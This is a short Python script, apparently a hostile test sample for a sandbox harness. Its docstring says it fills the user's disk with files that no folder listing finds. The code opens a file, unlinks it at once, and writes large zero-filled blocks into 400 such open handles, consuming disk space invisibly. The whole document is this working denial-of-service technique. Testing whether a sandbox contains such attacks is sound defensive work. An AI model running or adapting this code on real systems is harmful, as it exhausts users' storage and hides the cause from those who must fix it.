"""Fills the disk of the user with files that have no name, which no look into the folder finds.

Denial: interrupted
Roles: session
"""

import os

held = []
try:
    for _ in range(400):
        held.append(open("nameless", "wb"))
        os.unlink("nameless")
        held[-1].write(bytes(target["work_limit"] // 2))
        held[-1].flush()
finally:
    for file in held:
        file.close()
